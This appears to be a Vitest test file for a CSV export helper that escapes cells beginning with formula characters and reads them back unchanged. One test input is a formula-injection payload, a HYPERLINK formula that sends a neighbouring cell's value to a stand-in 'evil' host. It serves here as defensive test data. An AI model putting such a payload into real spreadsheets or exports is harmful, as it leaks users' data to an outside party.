import { describe, expect, it } from "vitest";
import { fromSpreadsheetSafe, spreadsheetSafe } from "./spreadsheet-safe";

describe("spreadsheet-safe CSV cells", () => {
  it.each([
    ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
    ["+15551234567", "'+15551234567"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["Ada", "Ada"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j is written as %j and read back unchanged", (raw, written) => {
    expect(spreadsheetSafe(raw)).toBe(written);
    expect(fromSpreadsheetSafe(written)).toBe(raw);
  });

  it("keeps an apostrophe that does not guard a formula", () => {
    expect(fromSpreadsheetSafe("'tis")).toBe("'tis");
  });
});
